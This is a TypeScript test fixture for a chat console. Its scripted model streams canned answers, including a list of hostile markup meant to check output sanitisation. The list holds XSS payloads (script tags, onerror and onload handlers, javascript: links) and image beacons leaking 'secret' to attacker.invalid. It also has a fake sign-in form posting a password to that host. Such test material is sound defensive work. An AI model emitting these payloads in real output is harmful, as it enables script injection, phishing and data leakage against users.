/** What the model says in the console's suites: it looks at the question alone. */
import type { ChatBody } from '../support/scripted-model/scripted-model.js';
import type { Script } from '../support/scripted-model/script.js';

export const LONG = Array.from({ length: 60 }, (_, i) => `word${i} `);

export const HARBOUR = [
  '# Harbour rules',
  'The harbour office keeps a log of every arrival. '.repeat(60),
  '## Lights',
  'The northern pier shows a green lamp between dusk and dawn. Boats keep to the left of it.',
  '## Fees',
  'Fees are due on the first working day of the month. '.repeat(60),
].join('\n\n');

/** Each line is an attack that worked somewhere: on a page, in a mail client or in another chat. */
export const HOSTILE = [
  'Before.',
  '<script>window.hacked = 1; alert("script")</script>',
  '<img src="x" onerror="window.hacked = 2; alert(1)">',
  '<img src="https://attacker.invalid/pixel.png?q=secret">',
  '![exfiltrate](https://attacker.invalid/leak.png?d=secret)',
  '![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<svg onload="alert(2)"><animate onbegin="alert(3)" attributeName="x" dur="1s"></animate></svg>',
  '<svg><style><img src=x onerror=alert(4)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(5)&gt;"></style></mglyph></table></mtext></math>',
  '<iframe src="https://attacker.invalid/"></iframe><iframe srcdoc="<script>alert(6)</script>"></iframe>',
  '<object data="https://attacker.invalid/x.swf"></object><embed src="https://attacker.invalid/x">',
  '<style>body { display: none } @import url(https://attacker.invalid/x.css);</style>',
  '<link rel="stylesheet" href="https://attacker.invalid/y.css"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<form action="https://attacker.invalid/"><input name="password"><button>Sign in again</button></form>',
  '<base href="https://attacker.invalid/"><a href="next">relative</a>',
  '[one](javascript:alert(7)) [two](JaVaScRiPt:alert(8)) [three](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==) [four](vbscript:x) [five](&#106;avascript:alert(10))',
  '<a href="javascript:alert(11)" onclick="alert(12)">six</a> <a href="/api/auth/me">seven</a> [good](https://example.org/page)',
  '<div style="position:fixed;inset:0" class="veil" id="app">cover</div><video src="https://attacker.invalid/v.mp4" autoplay></video>',
  '<details open ontoggle="alert(13)"><summary>d</summary></details>',
  '`<b onclick=alert(14)>`',
  'After [1] [99].',
].join('\n\n');

export function answerTo(body: ChatBody): Script {
  const question = String(body.messages.at(-1)?.content ?? '');
  if (question.includes('lamp'))
    return { tokens: ['The pier ', 'shows ', 'a **green** lamp', ' [1]', '.'], gapMs: 400 };
  if (question.includes('story')) return { tokens: LONG, gapMs: 150 };
  if (question.includes('endless')) return { fault: { kind: 'infinite', at: 1 } };
  if (question.includes('hostile')) return { tokens: HOSTILE.match(/[^]{1,120}/g)!, gapMs: 5 };
  return { tokens: [`You asked: ${question}`] };
}
